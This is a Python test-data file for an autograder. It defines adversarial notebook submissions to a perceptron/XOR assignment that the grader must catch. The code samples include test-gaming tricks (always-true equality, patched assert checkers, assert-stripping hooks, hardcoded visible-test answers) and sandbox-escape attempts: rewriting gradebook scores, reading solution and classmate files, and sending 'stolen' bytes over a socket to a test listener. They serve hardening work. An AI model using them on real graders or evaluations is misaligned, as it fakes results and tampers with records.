"""The adversarial corpus of ``course-grade`` (issues 8 and 12): one submission of ``01_perceptron_xor`` per case,
written as data. A case is a name, how to make the submission from the release (one edit, usually), the
tests it must lose (every other test keeps its full points), and the status it must get.

Exercises and tests of 01 (points): predict (10), perceptron_update (15), train_perceptron (20, its tests
call ``predict``), threshold_mlp (10), xor_network (10), cover_count (15), separable_fraction (20; its
visible test compares with ``cover_count``).

Placeholders in the code of a case, filled in by the test: ``{course}`` (the course root), ``{gradebook}``
(its sqlite file), ``{solution}`` (the source notebook), ``{port}`` (a TCP port on 127.0.0.1 that the test
listens on). Cases marked ``sandboxed`` get the score shown only inside the sandbox (without one, student
code can read the solutions: that is what the sandbox is for).
"""
from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

A = "01_perceptron_xor"
P, U, T, M, X, C, S = ("predict_test", "perceptron_update_test", "train_perceptron_test", "threshold_mlp_test",
                       "xor_network_test", "cover_count_test", "separable_fraction_test")
ALL = (P, U, T, M, X, C, S)

# wrong answers used by several cases
WRONG_XOR = ("def xor_network():\n"
             "    return {'W1': np.zeros((2, 2)), 'b1': np.zeros(2), 'w2': np.zeros(2), 'b2': 0.0}\n")
WRONG_MLP = "def threshold_mlp(params, X):\n    return np.zeros(len(X), dtype=np.int64)\n"


@dataclass
class Ctx:
    """What a case's edit works from."""

    release: Any        # the release notebook (blank)
    source: Any         # the source notebook (solutions, hidden tests)
    other_release: Any  # the release of another assignment
    values: dict        # placeholder values
    fill: Callable      # fill(answers) -> an honest submission with these answers put in


@dataclass
class Case:
    name: str
    make: Callable[[Ctx], Any]  # -> a notebook, or str for the raw file
    lose: tuple[str, ...] = ()
    status: str = "graded"
    sandboxed: bool = False


def fill_in(code: str, values: dict) -> str:
    """``code`` with each ``{name}`` placeholder replaced by ``values[name]``."""
    for key, value in values.items():
        code = code.replace("{" + key + "}", str(value))
    return code


def answer(gid: str, code: str) -> Callable[[Ctx], Any]:
    """The honest submission with the solution cell ``gid`` replaced by ``code``."""
    return lambda ctx: ctx.fill({gid: fill_in(code, ctx.values)})


def before(gid: str, code: str) -> Callable[[Ctx], Any]:
    """The honest submission with ``code`` run at the top of the solution cell ``gid``."""
    def make(ctx: Ctx) -> Any:
        from course_utils import grading

        honest = grading.strip_solution_markers(grading.find_cell(ctx.source, gid).source)
        return ctx.fill({gid: fill_in(code, ctx.values) + "\n" + honest})
    return make


def edited(base: Callable[[Ctx], Any], edit: Callable[[Any], None]) -> Callable[[Ctx], Any]:
    """``base``'s submission changed in place by ``edit(notebook)``."""
    def make(ctx: Ctx) -> Any:
        nb = base(ctx)
        edit(nb)
        return nb
    return make


def cell(nb: Any, gid: str) -> Any:
    from course_utils import grading

    return grading.find_cell(nb, gid)


def _delete(nb: Any, gid: str) -> None:
    nb.cells.remove(cell(nb, gid))


def _move_before(nb: Any, gid: str, target: str) -> None:
    moving = cell(nb, gid)
    nb.cells.remove(moving)
    nb.cells.insert(nb.cells.index(cell(nb, target)), moving)


def _insert_first(nb: Any, code: str) -> None:
    from nbformat.v4 import new_code_cell

    nb.cells.insert(0, new_code_cell(code))


def _to_markdown(nb: Any, gid: str) -> None:
    c = cell(nb, gid)
    c.cell_type = "markdown"
    c.pop("outputs", None)
    c.pop("execution_count", None)


def _nbformat3(ctx: Ctx) -> str:
    import nbformat

    return nbformat.writes(nbformat.convert(ctx.fill({}), 3), version=3)  # convert changes its argument


honest = answer("predict", "def predict(w, b, X):\n    return (X @ w + b > 0).astype(np.int64)")
wrong_xor = answer("xor_network", WRONG_XOR)

LYING_ARRAY = """class _Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)
    def tolist(self):
        return [1, 0, 0, 0]
    def astype(self, *args, **kwargs):
        return self
def predict(w, b, X):
    return np.zeros(len(X), dtype=np.int64).view(_Liar)
"""
ALWAYS_EQUAL = """class _Liar(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__
def cover_count(n, d):
    if n < 1 or d < 1:
        raise ValueError('n, d >= 1')
    return _Liar(2 ** n)
"""
FRAME_PEEK = """import sys
def predict(w, b, X):
    caller = sys._getframe(1).f_globals
    for name in ("_expected", "_y4", "_y_and"):
        value = caller.get(name)
        if value is not None and len(value) == len(X):
            return np.asarray(value, dtype=np.int64)
    return np.array([1, 0, 0, 0])[:len(X)] if len(X) == 4 else np.zeros(len(X), dtype=np.int64)
"""
HARDCODED = """def cover_count(n, d):
    if n < 1 or d < 1:
        raise ValueError('n, d >= 1')
    return {(1, 1): 2, (3, 3): 8, (4, 2): 8, (10, 1): 2}.get((n, d), 0)
"""
STRIP_ASSERTS = WRONG_MLP + """get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if "assert" not in line])
"""
PATCH_RUN_CELL = WRONG_XOR + """_shell = get_ipython()
_original_run_cell = _shell.run_cell
def _run_cell(raw_cell, *args, **kwargs):
    raw_cell = "\\n".join(line for line in raw_cell.split("\\n") if "assert" not in line)
    return _original_run_cell(raw_cell, *args, **kwargs)
_shell.run_cell = _run_cell
"""
HIDE_ERRORS = WRONG_XOR + """get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
"""
PATCH_CHECKERS = WRONG_MLP + """import course_utils.checks as _checks
_checks.assert_close = _checks.assert_equal = _checks.assert_dtype = _checks.assert_shape = lambda *a, **k: None
assert_close = assert_equal = assert_dtype = assert_shape = _checks.assert_equal
"""
PATCH_NUMPY = WRONG_MLP + """np.allclose = np.array_equal = lambda *args, **kwargs: True
np.abs = np.absolute = lambda x, *args, **kwargs: np.zeros(np.shape(x))
np.testing.assert_array_equal = np.testing.assert_allclose = lambda *args, **kwargs: None
"""
TAMPER_BUILTINS = WRONG_XOR + """import builtins
builtins.AssertionError = Warning
__builtins__.print = lambda *args, **kwargs: None
"""
GRADEBOOK_WRITE = WRONG_XOR + """import sqlite3
for _path in ("{gradebook}", "../../../gradebook.db", "../../gradebook.db"):
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET auto_score = 0")
        _db.execute("UPDATE grade_cells SET max_score = 0")
        _db.commit()
    except Exception:
        pass
"""
READ_SOLUTION = """import json, os
for _path in ("{solution}", "../../../solutions/01_perceptron_xor/01_perceptron_xor.ipynb"):
    if os.path.exists(_path):
        for _cell in json.load(open(_path))["cells"]:
            if _cell["metadata"].get("nbgrader", {}).get("grade_id") == "xor_network":
                exec("".join(_cell["source"]))
"""
READ_CLASSMATE = READ_SOLUTION.replace("{solution}", "{course}/submitted/honest1/" + A + "/" + A + ".ipynb")
WRITE_FILES = """for _path in ("{solution}", "{course}/grades/01_perceptron_xor.json", "{gradebook}"):
    try:
        open(_path, "w").write("overwritten by a student")
    except OSError:
        pass
"""
SOCKET = """import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
except OSError:
    pass
"""

CASES = [
    Case("honest1", honest),
    Case("honest2", lambda ctx: ctx.fill({})),
    Case("blank", lambda ctx: copy.deepcopy(ctx.release), lose=ALL),
    # runaway code
    Case("infinite_loop", answer("predict", "def predict(w, b, X):\n    while True:\n        pass"), lose=(P, T)),
    Case("sleep", before("threshold_mlp", "import time\ntime.sleep(100_000)"), lose=(M,)),
    Case("sys_exit", before("xor_network", "import sys\nsys.exit()"), lose=(X,)),
    Case("os_exit", before("threshold_mlp", "import os\nos._exit(1)"), lose=(M,), status="crashed"),
    Case("kill_9", before("xor_network", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), lose=(X,),
         status="crashed"),
    Case("segfault", before("xor_network", "import ctypes\nctypes.string_at(0)"), lose=(X,), status="crashed"),
    Case("memory_bomb", before("threshold_mlp", "def _bomb():\n    hog = []\n    while True:\n"
                               "        hog.append(b'x' * 10**8)\n_bomb()"), lose=(M,), status="crashed"),
    Case("exception_in_first_cell", edited(honest, lambda nb: _insert_first(nb, "raise RuntimeError('my notes')"))),
    # locked cells and metadata
    Case("test_edited", edited(wrong_xor, lambda nb: setattr(cell(nb, X), "source", "pass")), lose=(X,)),
    Case("test_emptied", edited(wrong_xor, lambda nb: setattr(cell(nb, X), "source", "")), lose=(X,)),
    Case("test_deleted", edited(wrong_xor, lambda nb: _delete(nb, X)), lose=(X,)),
    Case("test_to_markdown", edited(wrong_xor, lambda nb: _to_markdown(nb, X)), lose=(X,)),
    Case("grade_id_changed", edited(wrong_xor, lambda nb: cell(nb, X).metadata.nbgrader.update(grade_id="bonus")),
         lose=(X,)),
    Case("points_inflated", edited(honest, lambda nb: cell(nb, X).metadata.nbgrader.update(points=1000))),
    Case("cells_reordered", edited(honest, lambda nb: (_move_before(nb, X, "xor_network"),
                                                       _move_before(nb, C, "predict")))),
    # tampering inside the kernel
    Case("checkers_patched", answer("threshold_mlp", PATCH_CHECKERS), lose=(M,)),
    # numpy patched in the kernel breaks only the student's own code there (the tests' numpy is the checker's)
    Case("numpy_patched", answer("threshold_mlp", PATCH_NUMPY), lose=(M, S)),
    Case("builtins_tampered", answer("xor_network", TAMPER_BUILTINS), lose=(X,)),
    Case("always_equal", answer("cover_count", ALWAYS_EQUAL), lose=(C, S)),
    Case("lying_methods", answer("predict", LYING_ARRAY), lose=(P, T)),
    Case("input_transformer", answer("threshold_mlp", STRIP_ASSERTS), lose=(M,)),
    Case("run_cell_patched", answer("xor_network", PATCH_RUN_CELL), lose=(X,)),
    Case("errors_hidden", answer("xor_network", HIDE_ERRORS), lose=(X,)),
    # the tests run in another process: no frame holds a reference, so the peeking predict is just wrong, and
    # train_perceptron's test, which calls predict, fails with it
    Case("frame_inspection", answer("predict", FRAME_PEEK), lose=(P, T)),
    Case("visible_tests_hardcoded", answer("cover_count", HARDCODED), lose=(C,)),
    # reaching outside the kernel (the sandbox's job)
    Case("gradebook_written", answer("xor_network", GRADEBOOK_WRITE), lose=(X,), sandboxed=True),
    Case("solution_read", answer("xor_network", READ_SOLUTION), lose=(X,), sandboxed=True),
    Case("classmate_read", answer("xor_network", READ_CLASSMATE), lose=(X,), sandboxed=True),
    Case("files_overwritten", before("xor_network", WRITE_FILES), sandboxed=True),
    Case("socket_opened", before("xor_network", SOCKET), sandboxed=True),
    # files that are not this assignment's notebook
    Case("empty_file", lambda ctx: "", lose=ALL, status="invalid file"),
    Case("invalid_json", lambda ctx: '{"cells": [', lose=ALL, status="invalid file"),
    Case("not_a_notebook", lambda ctx: "%PDF-1.4\nmy answers are in the attached PDF\n", lose=ALL,
         status="invalid file"),
    Case("other_assignment", lambda ctx: copy.deepcopy(ctx.other_release), lose=ALL, status="invalid file"),
    Case("nbformat_3", _nbformat3),
    # damaged files that used to stop the whole class run (issue 12)
    Case("metadata_not_a_dict", edited(wrong_xor, lambda nb: cell(nb, X).metadata.update(nbgrader=5)), lose=(X,)),
    Case("json_nested_deep", lambda ctx: '{"nbformat": 4, "cells": ' + "[" * 200_000 + "]" * 200_000 + "}",
         lose=ALL, status="invalid file"),
]
